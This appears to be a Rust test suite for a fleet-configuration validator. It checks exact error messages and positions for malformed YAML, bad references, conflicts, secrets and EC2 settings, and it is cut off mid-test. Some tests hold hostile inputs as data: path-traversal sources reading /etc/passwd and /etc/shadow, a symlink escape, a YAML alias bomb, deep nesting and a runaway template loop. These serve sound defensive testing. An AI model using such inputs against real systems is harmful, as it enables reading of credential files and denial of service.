//! Broken config repos: each must fail with the exact message at the exact
//! file:line:column, and nothing else.

use crate::support::minimal;

#[test]
fn minimal_fixture_is_valid() {
    let fleet = minimal().load().expect("minimal config validates");
    assert_eq!(fleet.name, "test");
    assert_eq!(fleet.hosts.len(), 1);
    assert_eq!(fleet.hosts[0].resources.len(), 1);
}

// --- YAML and structure -------------------------------------------------

#[test]
fn unknown_key_in_fleet_file_is_named_with_its_position() {
    let d = minimal()
        .file("tidekeeper.yaml", "fleet: test\ndrfit: correct\n")
        .fails_with("tidekeeper.yaml:2:1", "unknown-key", "unknown key `drfit`");
    assert!(
        d.help.unwrap().contains("drift"),
        "help lists the allowed keys"
    );
}

#[test]
fn unknown_key_nested_in_server_spec() {
    minimal()
        .file("hosts/web.yaml", "provider: hetzner\nserver:\n  type: cx22\n  image: debian-12\n  location: fsn1\n  sise: big\n")
        .fails_with("hosts/web.yaml:6:3", "unknown-key", "unknown key `sise`");
}

#[test]
fn missing_required_key() {
    minimal()
        .file("hosts/web.yaml", "address: 10.0.0.1\nroles: [base]\n")
        // The parser points into the mapping that lacks the key.
        .fails_with(
            "hosts/web.yaml:2:1",
            "missing-key",
            "missing required key `provider`",
        );
}

#[test]
fn yaml_syntax_error_points_at_the_problem() {
    let errors = minimal()
        .file("roles/base.yaml", "packages:\n  present: [jq\n")
        .errors();
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert_eq!(errors[0].file, "roles/base.yaml");
    assert!(
        errors[0].line >= 2,
        "points into the unclosed list: {}",
        errors[0]
    );
    assert_eq!(errors[0].code, "yaml");
}

#[test]
fn duplicate_key_in_a_mapping() {
    minimal()
        .file("tidekeeper.yaml", "fleet: test\nfleet: other\n")
        .fails_with(
            "tidekeeper.yaml:2:1",
            "duplicate-key",
            "key `fleet` appears twice in the same mapping",
        );
}

#[test]
fn wrong_value_type() {
    minimal()
        .file(
            "hosts/web.yaml",
            "provider: existing\naddress: 10.0.0.1\ncount: many\n",
        )
        .fails_with(
            "hosts/web.yaml:3:8",
            "invalid-type",
            "expected a whole number (0 or more)",
        );
}

#[test]
fn unknown_provider() {
    let d = minimal()
        .file(
            "hosts/web.yaml",
            "provider: digitalocean\naddress: 10.0.0.1\n",
        )
        .fails_with(
            "hosts/web.yaml:1:11",
            "invalid-value",
            "`digitalocean` is not allowed here",
        );
    assert!(d.help.unwrap().contains("hetzner"));
}

#[test]
fn missing_fleet_file() {
    minimal().without("tidekeeper.yaml").fails_with(
        "tidekeeper.yaml",
        "missing-file",
        "the config repo has no tidekeeper.yaml at its top level",
    );
}

#[test]
fn non_utf8_file_is_located() {
    minimal()
        .file(
            "roles/base.yaml",
            b"packages:\n  present: [j\xffq]\n".as_slice(),
        )
        .fails_with(
            "roles/base.yaml:2:14",
            "not-utf8",
            "the file is not valid UTF-8",
        );
}

// --- References -------------------------------------------------------

#[test]
fn unknown_role_suggests_the_closest_name() {
    let d = minimal()
        .file(
            "hosts/web.yaml",
            "provider: existing\naddress: 10.0.0.1\nroles: [bsae]\n",
        )
        .fails_with(
            "hosts/web.yaml:3:9",
            "unknown-role",
            "unknown role \"bsae\"",
        );
    assert_eq!(
        d.help.as_deref(),
        Some("did you mean \"base\"? Roles are the files in roles/")
    );
}

#[test]
fn duplicate_host_names_across_files() {
    minimal()
        .file(
            "hosts/web2.yaml",
            "name: web\nprovider: existing\naddress: 10.0.0.3\n",
        )
        .fails_with(
            "hosts/web2.yaml:1:7",
            "duplicate-host",
            "host name \"web\" is already used by hosts/web.yaml",
        );
}

#[test]
fn count_group_member_collides_with_a_host() {
    minimal()
        .file(
            "hosts/web-2.yaml",
            "provider: existing\naddress: 10.0.0.3\n",
        )
        .file("hosts/web.yaml", "provider: local\ncount: 2\n")
        .fails_with(
            "hosts/web.yaml",
            "duplicate-host",
            "host name \"web-2\" is already used by hosts/web-2.yaml",
        );
}

#[test]
fn notify_names_an_unknown_handler() {
    minimal()
        .file(
            "roles/base.yaml",
            "files:\n  - path: /etc/x\n    content: x\n    notify: [restart-x]\n",
        )
        .fails_with(
            "roles/base.yaml:2:11",
            "unknown-handler",
            "file /etc/x notifies \"restart-x\", but no role of host web defines that handler",
        );
}

#[test]
fn job_selects_an_unknown_host() {
    minimal()
        .file("schedules.yaml", "jobs:\n  - name: up\n    cron: '0 3 * * *'\n    hosts: {names: [wbe]}\n    upgrade: {}\n")
        .errors()
        .iter()
        .find(|d| d.code == "unknown-host" && d.location() == "schedules.yaml:4:21")
        .expect("unknown host reported at its position");
}

// --- Conflicts ----------------------------------------------------------

#[test]
fn two_roles_claim_the_same_path() {
    minimal()
        .file(
            "hosts/web.yaml",
            "provider: existing\naddress: 10.0.0.1\nroles: [base, extra]\n",
        )
        .file(
            "roles/base.yaml",
            "files:\n  - path: /etc/motd\n    content: a\n",
        )
        .file("roles/extra.yaml", "directories:\n  - path: /etc/motd\n")
        .fails_with(
            "roles/extra.yaml:2:11",
            "conflict",
            "directory /etc/motd is also declared at roles/base.yaml:2:11",
        );
}

#[test]
fn two_roles_claim_the_same_user() {
    minimal()
        .file(
            "hosts/web.yaml",
            "provider: existing\naddress: 10.0.0.1\nroles: [base, extra]\n",
        )
        .file("roles/base.yaml", "users:\n  - name: deploy\n")
        .file(
            "roles/extra.yaml",
            "users:\n  - name: deploy\n    shell: /bin/sh\n",
        )
        .fails_with(
            "roles/extra.yaml:2:11",
            "conflict",
            "user deploy is also declared at roles/base.yaml:2:11",
        );
}

#[test]
fn two_roles_claim_the_same_unit() {
    minimal()
        .file(
            "hosts/web.yaml",
            "provider: existing\naddress: 10.0.0.1\nroles: [base, extra]\n",
        )
        .file(
            "roles/base.yaml",
            "services:\n  - name: ssh\n    state: running\n",
        )
        .file(
            "roles/extra.yaml",
            "services:\n  - name: ssh\n    state: stopped\n",
        )
        .fails_with(
            "roles/extra.yaml:2:11",
            "conflict",
            "service ssh is also declared at roles/base.yaml:2:11",
        );
}

#[test]
fn package_present_in_one_role_and_absent_in_another() {
    minimal()
        .file(
            "hosts/web.yaml",
            "provider: existing\naddress: 10.0.0.1\nroles: [base, extra]\n",
        )
        .file("roles/extra.yaml", "packages:\n  absent: [jq]\n")
        .fails_with(
            "roles/extra.yaml:2:12",
            "conflict",
            "package jq is also declared at roles/base.yaml:2:13",
        );
}

#[test]
fn same_package_state_in_two_roles_is_not_a_conflict() {
    let fleet = minimal()
        .file(
            "hosts/web.yaml",
            "provider: existing\naddress: 10.0.0.1\nroles: [base, extra]\n",
        )
        .file("roles/extra.yaml", "packages:\n  present: [jq]\n")
        .load()
        .expect("valid");
    assert_eq!(fleet.hosts[0].resources.len(), 1);
}

#[test]
fn firewall_default_policies_conflict() {
    minimal()
        .file(
            "hosts/web.yaml",
            "provider: existing\naddress: 10.0.0.1\nroles: [base, extra]\n",
        )
        .file(
            "roles/base.yaml",
            "firewall:\n  incoming: deny\n  rules: [{port: '22'}]\n",
        )
        .file("roles/extra.yaml", "firewall:\n  incoming: allow\n")
        .fails_with(
            "roles/extra.yaml:2:13",
            "conflict",
            "firewall default policies differ from those at roles/base.yaml:2:13",
        );
}

// --- Paths in the repo ----------------------------------------------------

#[test]
fn source_escaping_the_repo_with_dotdot() {
    minimal()
        .file("roles/base.yaml", "files:\n  - path: /etc/x\n    source: ../../etc/passwd\n")
        .fails_with(
            "roles/base.yaml:3:13",
            "path-escape",
            "source: \"../../etc/passwd\" escapes its directory with \"..\"; files must live inside the config repo",
        );
}

#[test]
fn source_as_absolute_path() {
    minimal()
        .file("roles/base.yaml", "files:\n  - path: /etc/x\n    source: /etc/shadow\n")
        .fails_with(
            "roles/base.yaml:3:13",
            "path-escape",
            "source: \"/etc/shadow\" is an absolute path; paths are relative to their directory in the config repo",
        );
}

#[test]
fn source_through_a_symlink_in_the_repo() {
    minimal()
        .symlink("files/etc", "/etc")
        .file(
            "roles/base.yaml",
            "files:\n  - path: /etc/x\n    source: etc/shadow\n",
        )
        .fails_with(
            "roles/base.yaml:3:13",
            "symlink",
            "source files/etc/shadow goes through the symlink files/etc (to \"/etc\")",
        );
}

#[test]
fn source_file_missing() {
    minimal()
        .file(
            "roles/base.yaml",
            "files:\n  - path: /etc/x\n    source: nginx.conf\n",
        )
        .fails_with(
            "roles/base.yaml:3:13",
            "not-found",
            "source files/nginx.conf does not exist in the config repo",
        );
}

#[test]
fn unknown_template() {
    minimal()
        .file(
            "roles/base.yaml",
            "files:\n  - path: /etc/x\n    template: x.j2\n",
        )
        .fails_with(
            "roles/base.yaml:3:15",
            "not-found",
            "template templates/x.j2 does not exist in the config repo",
        );
}

#[test]
fn relative_host_path() {
    minimal()
        .file("roles/base.yaml", "directories:\n  - path: srv/app\n")
        .fails_with(
            "roles/base.yaml:2:11",
            "invalid-path",
            "path \"srv/app\" must be absolute (start with /)",
        );
}

#[test]
fn stack_without_directory() {
    minimal()
        .file("roles/base.yaml", "stacks:\n  - name: bastion\n")
        .fails_with(
            "roles/base.yaml:2:11",
            "not-found",
            "stack \"bastion\" has no directory stacks/bastion/ in the config repo",
        );
}

// --- Templates ------------------------------------------------------------

#[test]
fn template_syntax_error_is_located_in_the_template() {
    minimal()
        .file(
            "roles/base.yaml",
            "files:\n  - path: /etc/x\n    template: x.j2\n",
        )
        .file("templates/x.j2", "line one\nhello {{ name }\n")
        .fails_with(
            "templates/x.j2:2:15",
            "template",
            "syntax error: unexpected `}`, expected end of variable block",
        );
}

#[test]
fn template_undefined_variable_names_the_host() {
    minimal()
        .file(
            "roles/base.yaml",
            "files:\n  - path: /etc/x\n    template: x.j2\n",
        )
        .file("templates/x.j2", "a\nb {{ nope }}\n")
        .fails_with(
            "templates/x.j2:2:6",
            "template",
            "undefined value: `nope` is undefined (rendering for host web)",
        );
}

#[test]
fn template_runaway_loop_is_stopped_not_hung() {
    let errors = minimal()
        .file(
            "roles/base.yaml",
            "files:\n  - path: /etc/x\n    template: x.j2\n",
        )
        .file(
            "templates/x.j2",
            "{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}",
        )
        .errors();
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert_eq!(errors[0].file, "templates/x.j2");
    assert_eq!(errors[0].code, "template");
    assert!(
        errors[0].message.contains("fuel") || errors[0].message.contains("range"),
        "{}",
        errors[0]
    );
}

#[test]
fn inline_template_value_renders_per_host_and_is_checked() {
    minimal()
        .file("hosts/web.yaml", "provider: existing\naddress: 10.0.0.1\nroles: [base]\nvars: {ssh_from: 10.0.0.300}\n")
        .file("roles/base.yaml", "firewall:\n  rules:\n    - port: '22'\n      from: '{{ ssh_from }}'\n")
        .fails_with(
            "roles/base.yaml:4:13",
            "invalid-cidr",
            "\"10.0.0.300\" is not an IP address or CIDR network such as 10.0.0.0/16 (rendered for host web)",
        );
}

// --- Values -----------------------------------------------------------------

#[test]
fn invalid_cron_expression() {
    minimal()
        .file(
            "schedules.yaml",
            "jobs:\n  - name: up\n    cron: '61 3 * * *'\n    upgrade: {}\n",
        )
        .errors()
        .iter()
        .find(|d| d.code == "invalid-cron" && d.location() == "schedules.yaml:3:11")
        .expect("cron error at its position");
}

#[test]
fn cron_with_wrong_field_count() {
    minimal()
        .file("schedules.yaml", "jobs:\n  - name: up\n    cron: '0 3 * *'\n    upgrade: {}\n")
        .fails_with(
            "schedules.yaml:3:11",
            "invalid-cron",
            "cron expression \"0 3 * *\" has 4 fields; write 5 (minute hour day-of-month month day-of-week) or 6 (with seconds first)",
        );
}

#[test]
fn invalid_timezone() {
    minimal()
        .file("schedules.yaml", "jobs:\n  - name: up\n    cron: '0 3 * * *'\n    timezone: Europe/Berlinn\n    upgrade: {}\n")
        .fails_with(
            "schedules.yaml:4:15",
            "invalid-timezone",
            "time zone \"Europe/Berlinn\" is not an IANA time zone; did you mean \"Europe/Berlin\"?",
        );
    // Nothing close: the examples instead.
    minimal()
        .file("schedules.yaml", "jobs:\n  - name: up\n    cron: '0 3 * * *'\n    timezone: Mars/Olympus\n    upgrade: {}\n")
        .fails_with(
            "schedules.yaml:4:15",
            "invalid-timezone",
            "time zone \"Mars/Olympus\" is not an IANA time zone such as \"UTC\" or \"Europe/Berlin\"",
        );
}

#[test]
fn invalid_window() {
    minimal()
        .file("schedules.yaml", "jobs:\n  - name: up\n    cron: '0 3 * * *'\n    window: 'Sunday 2am-6am'\n    upgrade: {}\n")
        .fails_with(
            "schedules.yaml:4:13",
            "invalid-window",
            "window \"Sunday 2am-6am\" has a time that is not HH:MM; write it like \"Sun 02:00-06:00 Europe/Berlin\" or \"daily 00:00-06:00 UTC\"",
        );
}

#[test]
fn apply_windows_are_read_with_their_hosts() {
    let fleet = minimal()
        .file(
            "tidekeeper.yaml",
            "fleet: test\napply:\n  apply_windows:\n    - {kind: deny, schedule: '0 22 * * fri', duration: 60h, timezone: Europe/Berlin}\n    - {kind: allow, window: 'Mon-Fri 09:00-17:00 UTC', hosts: {names: [web]}}\n",
        )
        .load()
        .expect("valid windows");
    let w = &fleet.settings.apply_windows;
    assert_eq!(w.len(), 2);
    assert_eq!(
        w[0].to_string(),
        "deny \"0 22 * * fri\" for 60h Europe/Berlin"
    );
    assert_eq!(w[0].hosts, None, "no hosts: the whole fleet");
    assert_eq!(w[1].hosts, Some(vec!["web".to_string()]));
    let json = serde_json::to_value(w).unwrap();
    assert_eq!(
        json[0],
        serde_json::json!({"kind": "deny", "schedule": "0 22 * * fri", "duration_secs": 216000, "timezone": "Europe/Berlin"})
    );
    assert_eq!(json[1]["window"]["timezone"], "UTC", "{json}");
}

#[test]
fn a_bad_apply_window_is_located() {
    let fleet = |w: &str| {
        minimal().file(
            "tidekeeper.yaml",
            format!("fleet: test\napply:\n  apply_windows:\n    - {w}\n"),
        )
    };
    let errors = fleet("{kind: deny, schedule: '0 25 * * *', duration: 2h}").errors();
    assert!(
        errors
            .iter()
            .any(|d| d.code == "invalid-cron" && d.location() == "tidekeeper.yaml:4:30"),
        "{errors:?}"
    );
    fleet("{kind: deny, schedule: '0 2 * * *', duration: 2 hours}").fails_with(
        "tidekeeper.yaml:4:53",
        "invalid-duration",
        "duration \"2 hours\" is not like \"500ms\", \"30s\", \"10m\", \"2h\" or \"1h30m\"",
    );
    fleet("{kind: deny, schedule: '0 2 * * *', duration: 2h, timezone: Europe/Berln}").fails_with(
        "tidekeeper.yaml:4:67",
        "invalid-timezone",
        "time zone \"Europe/Berln\" is not an IANA time zone; did you mean \"Europe/Berlin\"?",
    );
    fleet("{kind: block, window: 'daily 02:00-06:00'}").fails_with(
        "tidekeeper.yaml:4:14",
        "invalid-value",
        "apply window kind \"block\" is neither allow nor deny",
    );
    fleet("{kind: deny, window: 'daily 2am-6am'}").fails_with(
        "tidekeeper.yaml:4:28",
        "invalid-window",
        "window \"daily 2am-6am\" has a time that is not HH:MM; write it like \"Sun 02:00-06:00 Europe/Berlin\" or \"daily 00:00-06:00 UTC\"",
    );
    fleet("{kind: deny, schedule: '0 2 * * *'}").fails_with(
        "tidekeeper.yaml:4:30",
        "missing-field",
        "an apply window with a schedule needs a duration",
    );
    fleet("{kind: deny, window: 'daily 02:00-06:00', hosts: {names: [web, wbe]}}").fails_with(
        "tidekeeper.yaml:4:70",
        "unknown-host",
        "apply window 1 selects unknown host \"wbe\"",
    );
}

#[test]
fn job_timeout_longer_than_its_window() {
    minimal()
        .file("schedules.yaml", "jobs:\n  - name: up\n    cron: '0 3 * * 0'\n    window: 'Sun 03:00-04:00'\n    timeout: 2h\n    upgrade: {}\n")
        .fails_with(
            "schedules.yaml:5:14",
            "window-too-short",
            "timeout 2h is longer than the window \"Sun 03:00-04:00\" (60 min); the job could never finish inside it",
        );
}

#[test]
fn invalid_port() {
    minimal()
        .file(
            "roles/base.yaml",
            "firewall:\n  rules:\n    - port: '70000'\n",
        )
        .fails_with(
            "roles/base.yaml:3:13",
            "invalid-port",
            "port \"70000\" is not a port number from 1 to 65535 or a range such as 8000:8100",
        );
}

#[test]
fn invalid_cidr() {
    minimal()
        .file(
            "roles/base.yaml",
            "firewall:\n  rules:\n    - port: '22'\n      from: 10.0.0.0/33\n",
        )
        .fails_with(
            "roles/base.yaml:4:13",
            "invalid-cidr",
            "\"10.0.0.0/33\" has prefix length \"33\"; it must be 0 to 32",
        );
}

#[test]
fn invalid_mode() {
    minimal()
        .file(
            "roles/base.yaml",
            "files:\n  - path: /etc/x\n    content: x\n    mode: '0948'\n",
        )
        .fails_with(
            "roles/base.yaml:4:11",
            "invalid-mode",
            "mode \"0948\" is not an octal mode such as \"0644\" or \"0755\" (quote it in YAML)",
        );
}

#[test]
fn invalid_authorized_key() {
    minimal()
        .file(
            "roles/base.yaml",
            "users:\n  - name: deploy\n    authorized_keys: ['ssh-dss AAAAB3NzaC1kc3MAAACBAP']\n",
        )
        .errors()
        .iter()
        .find(|d| d.code == "invalid-key" && d.location() == "roles/base.yaml:3:23")
        .expect("bad key type reported");
}

#[test]
fn malformed_known_hosts_line() {
    minimal()
        .file("known_hosts", "# pinned\n10.0.0.1 ssh-ed25519 not*base64\n")
        .fails_with(
            "known_hosts:2:10",
            "invalid-known-host",
            "the ssh-ed25519 key is not valid base64",
        );
}

// --- Secrets ----------------------------------------------------------------

#[test]
fn file_references_a_missing_secret() {
    minimal()
        .file(
            "roles/base.yaml",
            "files:\n  - path: /etc/app/token\n    secret: api-token\n",
        )
        .fails_with(
            "roles/base.yaml:3:13",
            "missing-secret",
            "secret \"api-token\" is referenced but secrets/api-token.age does not exist",
        );
}

#[test]
fn template_references_a_missing_secret() {
    minimal()
        .file("roles/base.yaml", "files:\n  - path: /etc/app.env\n    template: app.env.j2\n")
        .file("templates/app.env.j2", "USER=app\nPASSWORD={{ secret('db') }}\n")
        .fails_with(
            "templates/app.env.j2:2:13",
            "template",
            "invalid operation: secret \"db\" is referenced but secrets/db.age does not exist (rendering for host web)",
        );
}

#[test]
fn backup_references_a_missing_secret() {
    minimal()
        .file(
            "schedules.yaml",
            "jobs:\n  - name: backup\n    cron: '0 1 * * *'\n    backup:\n      repository: /srv/restic\n      password_secret: restic\n      paths: [/etc]\n",
        )
        .fails_with(
            "schedules.yaml:6:24",
            "missing-secret",
            "secret \"restic\" is referenced but secrets/restic.age does not exist",
        );
}

#[test]
fn plaintext_file_in_secrets_is_refused() {
    minimal().file("secrets/db.txt", "hunter2\n").fails_with(
        "secrets/db.txt",
        "plaintext-secret",
        "secrets/db.txt is not an age-encrypted file",
    );
}

#[test]
fn secret_bearing_files_default_to_0600_and_never_show_plaintext() {
    let fleet = minimal()
        .file("secrets/db.age", "age-encryption.org/v1\n")
        .file(
            "roles/base.yaml",
            "files:\n  - path: /etc/app.env\n    template: app.env.j2\n",
        )
        .file("templates/app.env.j2", "PASSWORD={{ secret('db') }}\n")
        .load()
        .expect("valid");
    let tidekeeper::model::desired::Resource::File(f) = &fleet.hosts[0].resources[0] else {
        panic!("a file")
    };
    assert!(f.content.sensitive);
    assert_eq!(f.mode, Some(0o600));
    let json = serde_json::to_string(&fleet).unwrap();
    assert!(json.contains("\"content\":\"(sensitive)\""), "{json}");
}

// --- Providers --------------------------------------------------------------

#[test]
fn hetzner_host_without_server() {
    minimal()
        .file("hosts/web.yaml", "provider: hetzner\nroles: [base]\n")
        .fails_with(
            "hosts/web.yaml:1:11",
            "missing-key",
            "a hetzner host needs a `server:` section",
        );
}

#[test]
fn lightsail_host_without_provider_settings() {
    minimal()
        .file("hosts/web.yaml", "provider: lightsail\nssh: {user: admin, sudo: true}\nserver: {bundle: small_3_0, blueprint: debian_12, zone: eu-central-1a}\n")
        .fails_with(
            "hosts/web.yaml:1:11",
            "missing-key",
            "this host uses provider: lightsail but tidekeeper.yaml has no providers.lightsail",
        );
}

#[test]
fn existing_host_without_address() {
    minimal()
        .file("hosts/web.yaml", "provider: existing\nroles: [base]\n")
        .fails_with(
            "hosts/web.yaml:1:11",
            "missing-key",
            "an existing host needs `address` (IP or DNS name)",
        );
}

#[test]
fn lightsail_setting_on_a_hetzner_server() {
    minimal()
        .file("hosts/web.yaml", "provider: hetzner\nserver:\n  type: cx22\n  image: debian-12\n  location: fsn1\n  bundle: small_3_0\n")
        .fails_with("hosts/web.yaml:6:11", "invalid-key", "`bundle` is not a hetzner server setting");
}

const EC2_FLEET: &str = "fleet: test\nproviders:\n  ec2: {region: eu-central-1}\n";

fn ec2_host(extra: &str) -> String {
    format!(
        "provider: ec2\nssh: {{user: admin, sudo: true}}\nserver:\n  type: t3.small\n  image: ami-0abcdef1234567890\n  subnet: subnet-0123456789abcdef0\n{extra}"
    )
}

#[test]
fn ec2_host_validates_with_its_own_settings() {
    let fleet = minimal()
        .file("tidekeeper.yaml", EC2_FLEET)
        .file(
            "hosts/web.yaml",
            ec2_host("  private_ip: 10.20.13.140\n  root_volume: {size_gb: 20}\n  termination_protection: true\n"),
        )
        .load()
        .expect("valid");
    let s = fleet.hosts[0].server.as_ref().unwrap();
    let e = s.ec2.as_ref().unwrap();
    assert_eq!(
        s.location.as_deref(),
        Some("eu-central-1"),
        "region from providers.ec2"
    );
    assert_eq!(e.private_ip.as_deref(), Some("10.20.13.140"));
    assert_eq!((e.root_gb, e.root_type.as_str()), (Some(20), "gp3"));
    assert!(e.termination_protection);
}

#[test]
fn ec2_host_without_provider_settings() {
    minimal().file("hosts/web.yaml", ec2_host("")).fails_with(
        "hosts/web.yaml:1:11",
        "missing-key",
        "this host uses provider: ec2 but tidekeeper.yaml has no providers.ec2",
    );
}

#[test]
fn ec2_settings_errors_are_located() {
    let fails = |extra: &str, at: &str, code: &str, message: &str| {
        minimal()
            .file("tidekeeper.yaml", EC2_FLEET)
            .file("hosts/web.yaml", ec2_host(extra))
            .fails_with(at, code, message);
    };
    fails(
        "  private_ip: 10.20.13.300\n",
        "hosts/web.yaml:7:15",
        "invalid-value",
        "private_ip \"10.20.13.300\" is not an IPv4 address",
    );
    fails(
        "  root_volume: {type: gp9}\n",
        "hosts/web.yaml:7:23",
        "invalid-value",
        "root_volume.type \"gp9\" is not an EBS volume type",
    );
    fails(
        "  region: us-east-1\n",
        "hosts/web.yaml:7:11",
        "invalid-value",
        "region \"us-east-1\" is not providers.ec2.region (eu-central-1)",
    );
    fails(
        "  zone: eu-central-1a\n",
        "hosts/web.yaml:7:9",
        "invalid-key",
        "`zone` is not a ec2 server setting",
    );
    minimal()
        .file("tidekeeper.yaml", EC2_FLEET)
        .file("hosts/web.yaml", "provider: ec2\nserver:\n  type: t3.small\n  image: debian-12\n  subnet: subnet-0123456789abcdef0\n")
        .fails_with("hosts/web.yaml:4:10", "invalid-value", "\"debian-12\" is not an AMI id like ami-0abcdef1234567890, nor OWNER/NAME");
}

#[test]
fn ec2_outbound_rules_are_checked_and_belong_to_the_hosts_own_group() {
    const FIREWALL: &str = "  firewall:\n    - {port: \"22\"}\n";
    let fleet = minimal()
        .file("tidekeeper.yaml", EC2_FLEET)
        .file(
            "hosts/web.yaml",
            ec2_host(&format!("{FIREWALL}  egress:\n    - {{port: \"443\", to: [10.0.0.0/8]}}\n    - {{port: \"53\", proto: udp}}\n")),
        )
        .load()
        .expect("valid");
    let e = fleet.hosts[0]
        .server
        .as_ref()
        .unwrap()
        .ec2
        .as_ref()
        .unwrap();
    let rules: Vec<(u16, &str, Vec<&str>)> = e
        .egress
        .as_ref()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r.from_port,
                r.proto.as_str(),
                r.from.iter().map(String::as_str).collect(),
            )
        })
        .collect();
    assert_eq!(
        rules,
        [
            (443, "tcp", vec!["10.0.0.0/8"]),
            (53, "udp", vec!["0.0.0.0/0", "::/0"])
        ]
    );
    let fails = |extra: &str, at: &str, code: &str, message: &str| {
        minimal()
            .file("tidekeeper.yaml", EC2_FLEET)
            .file("hosts/web.yaml", ec2_host(extra))
            .fails_with(at, code, message);
    };
    fails(
        &format!("{FIREWALL}  egress:\n    - {{port: \"443\", to: [10.0.0.0/33]}}\n"),
        "hosts/web.yaml:10:26",
        "invalid-cidr",
        "\"10.0.0.0/33\" has prefix length \"33\"; it must be 0 to 32",
    );
    fails(
        &format!("{FIREWALL}  egress:\n    - {{port: \"https\"}}\n"),
        "hosts/web.yaml:10:14",
        "invalid-port",
        "port \"https\" is not a port number from 1 to 65535 or a range such as 8000:8100",
    );
    fails(
        "  egress:\n    - {port: \"443\"}\n",
        "hosts/web.yaml:1:11",
        "missing-key",
        "`server.egress` needs `server.firewall`: both are rules of the host's own security group, which tidekeeper makes only with its inbound rules",
    );
    minimal()
        .file("hosts/web.yaml", "provider: hetzner\nserver:\n  type: cx22\n  image: debian-12\n  location: fsn1\n  egress:\n    - {port: \"443\"}\n")
        .fails_with("hosts/web.yaml:1:11", "invalid-key", "`server.egress` is an EC2 setting, not a hetzner one");
}

/// A jump host's outbound rules must let it open SSH to the hosts behind
/// it: a security group lets replies out, not new connections.
#[test]
fn a_jump_hosts_outbound_rules_that_shut_ssh_to_the_hosts_behind_it_are_a_lockout() {
    let bastion = |egress: &str| {
        ec2_host(&format!(
            "  firewall:\n    - {{port: \"22\"}}\n  egress:\n    - {{port: \"443\"}}\n{egress}"
        ))
    };
    let behind = "provider: existing\naddress: 10.20.13.50\nssh: {via: bastion}\nroles: [base]\n";
    minimal()
        .file("tidekeeper.yaml", EC2_FLEET)
        .file("hosts/bastion.yaml", bastion(""))
        .file("hosts/db.yaml", behind)
        .fails_with(
            "hosts/bastion.yaml:10:14",
            "lockout",
            "bastion: its outbound rules let it open SSH (port 22) nowhere, but tidekeeper reaches db through it at 10.20.13.50: applying them would lock tidekeeper out of db",
        );
    // A rule to the subnet: fine.
    minimal()
        .file("tidekeeper.yaml", EC2_FLEET)
        .file(
            "hosts/bastion.yaml",
            bastion("    - {port: \"22\", to: [10.20.13.0/24]}\n"),
        )
        .file("hosts/db.yaml", behind)
        .load()
        .expect("the bastion may open SSH to db");
}

#[test]
fn an_ec2_security_group_that_shuts_ssh_is_a_lockout_even_on_the_private_address() {
    let fleet = "fleet: test\ndefaults:\n  ssh: {from: [203.0.113.0/24]}\nproviders:\n  ec2: {region: eu-central-1}\n";
    for ssh in ["", "  address: private\n"] {
        let host = format!(
            "provider: ec2\nssh:\n  user: admin\n  sudo: true\n{ssh}server:\n  type: t3.small\n  image: ami-0abcdef1234567890\n  subnet: subnet-0123456789abcdef0\n  firewall:\n    - {{port: \"22\", from: [10.0.0.2/32]}}\n"
        );
        let line = if ssh.is_empty() { 10 } else { 11 };
        minimal()
            .file("tidekeeper.yaml", fleet)
            .file("hosts/web.yaml", host)
            .fails_with(
                &format!("hosts/web.yaml:{line}:14"),
                "lockout",
                "web: its security group lets SSH (port 22) in only from 10.0.0.2/32, but tidekeeper connects from 203.0.113.0/24: applying it would lock tidekeeper out",
            );
    }
}

// --- Hostile input ----------------------------------------------------------

#[test]
fn alias_bomb_is_refused_quickly() {
    let mut bomb = String::from(
        "fleet: test\ndefaults:\n  vars:\n    a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n",
    );
    for i in 1..10 {
        let p = i - 1;
        bomb.push_str(&format!("    a{i}: &a{i} [*a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}]\n"));
    }
    let start = std::time::Instant::now();
    let errors = minimal().file("tidekeeper.yaml", bomb).errors();
    assert!(start.elapsed().as_secs() < 5, "gave up in bounded time");
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert_eq!(errors[0].file, "tidekeeper.yaml");
    assert_eq!(errors[0].code, "too-complex", "{}", errors[0]);
    assert!(errors[0].line > 0, "located: {}", errors[0]);
}

#[test]
fn deeply_nested_document_is_refused() {
    let deep = format!(
        "fleet: test\ndefaults:\n  vars:\n    x: {}{}\n",
        "[".repeat(10_000),
        "]".repeat(10_000)
    );
    let errors = minimal().file("tidekeeper.yaml", deep).errors();
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert_eq!(errors[0].code, "too-complex", "{}", errors[0]);
    assert_eq!(errors[0].line, 4);
}

#[test]
fn very_large_config_file_is_refused_before_parsing() {
    let big = format!("fleet: test\n# {}\n", "x".repeat(2 * 1024 * 1024));
    minimal().file("tidekeeper.yaml", big).fails_with(
        "tidekeeper.yaml",
        "file-too-large",
        "tidekeeper.yaml is 2097167 bytes; config files may be at most 1048576 bytes",
    );
}

// --- All errors in one run -----------------------------------------------

#[test]
fn every_error_in_the_repo_is_reported_in_one_run() {
    let errors = minimal()
        .file("tidekeeper.yaml", "fleet: test\nbogus: 1\n")
        .file(
            "hosts/web.yaml",
            "provider: existing\naddress: 10.0.0.1\nroles: [base, nope]\n",
        )
        .file(
            "roles/base.yaml",
            "files:\n  - path: etc/x\n    content: x\n    mode: '999'\n",
        )
        .file(
            "schedules.yaml",
            "jobs:\n  - name: up\n    cron: '0 3 * *'\n    upgrade: {}\n",
        )
        .errors();
    let got: Vec<(String, &str)> = errors.iter().map(|d| (d.location(), d.code)).collect();
    assert_eq!(
        got,
        vec![
            ("hosts/web.yaml:3:15".to_string(), "unknown-role"),
            ("roles/base.yaml:2:11".to_string(), "invalid-path"),
            ("roles/base.yaml:4:11".to_string(), "invalid-mode"),
            ("schedules.yaml:3:11".to_string(), "invalid-cron"),
            ("tidekeeper.yaml:2:1".to_string(), "unknown-key"),
        ]
    );
}

#[test]
fn a_server_ssh_key_given_as_a_public_key_must_be_one() {
    let d = minimal()
        .file(
            "tidekeeper.yaml",
            "fleet: test\n",
        )
        .file(
            "hosts/web.yaml",
            "provider: hetzner\nserver:\n  type: cpx11\n  image: debian-12\n  location: fsn1\n  ssh_keys: [ops, 'ssh-ed25519 not*base64 me']\n",
        )
        .errors();
    assert!(
        d.iter()
            .any(|d| d.code == "invalid-key" && d.location() == "hosts/web.yaml:6:19"),
        "{:?}",
